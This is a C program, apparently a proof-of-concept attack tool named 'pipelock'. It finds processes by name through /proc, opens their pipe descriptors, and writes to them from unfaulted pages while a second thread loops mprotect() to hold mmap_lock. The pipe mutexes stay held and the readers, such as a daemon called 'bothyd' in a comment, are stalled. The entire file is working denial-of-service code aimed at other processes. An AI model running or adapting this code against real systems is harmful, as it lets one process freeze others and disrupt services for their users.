/* Holds the mutexes of pipes of other processes in its sandbox: pipelock GIB SECONDS COMM FD
 *
 * write(2) to a pipe takes its mutex and then copies from the caller's page. Where that is not there
 * the fault takes mmap_lock, which another thread keeps by mprotect() over GIB of page tables. */
#include <dirent.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#define GIB           (1ul << 30)
#define POPULATE_READ 22 /* MADV_POPULATE_READ */

struct range {
    char *at;
    size_t size;
};

static void *lock(void *arg)
{
    const struct range *r = arg;

    for (unsigned n = 0;; n++)
        if (mprotect(r->at, r->size, n & 1 ? PROT_READ : PROT_NONE))
            return NULL;
}

static void *write_to(void *arg)
{
    int fd = (int)(long)arg;
    char one = 'x';
    char *fresh =
        mmap(NULL, GIB, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);

    madvise(fresh, GIB, MADV_NOHUGEPAGE);
    for (size_t at = 0;; at += 4096) {
        if (at >= GIB) {
            madvise(fresh, GIB, MADV_DONTNEED);
            at = 0;
        }
        (void)!write(fd, &one, 1);       /* so that bothyd comes to read */
        (void)!write(fd, fresh + at, 1); /* the mutex is ours until mmap_lock is */
    }
    return NULL;
}

static int is_named(int pid, const char *comm)
{
    char path[64], name[64] = "";

    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    int fd = open(path, O_RDONLY);
    if (fd >= 0) {
        (void)!read(fd, name, sizeof name - 1);
        close(fd);
    }
    return !strncmp(name, comm, strlen(comm));
}

static void start(void *(*run)(void *), void *arg)
{
    pthread_t t;

    if (pthread_create(&t, NULL, run, arg))
        exit(1);
}

static int hold_all(const char *comm, const char *fd_name)
{
    DIR *d = opendir("/proc");
    int n = 0;

    for (struct dirent *e; d && (e = readdir(d));) {
        char path[64];
        int pid = atoi(e->d_name);
        if (pid <= 1 || pid == getpid() || !is_named(pid, comm))
            continue;
        snprintf(path, sizeof path, "/proc/%d/fd/%s", pid, fd_name);
        int fd = open(path, O_WRONLY);
        if (fd < 0)
            continue;
        start(write_to, (void *)(long)fd);
        n++;
    }
    return n;
}

int main(int argc, char **argv)
{
    static struct range r;

    if (argc != 5)
        return 2;
    r.size = strtoul(argv[1], NULL, 10) * GIB;
    r.at = mmap(NULL, r.size, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
    if (r.at == MAP_FAILED)
        return 1;
    madvise(r.at, r.size, MADV_NOHUGEPAGE);
    for (size_t at = 0; at < r.size; at += GIB)
        if (madvise(r.at + at, GIB, POPULATE_READ))
            return 1;
    printf("%d pipes\n", hold_all(argv[3], argv[4]));
    fflush(stdout);
    start(lock, &r);
    sleep((unsigned)atoi(argv[2]));
    return 0;
}
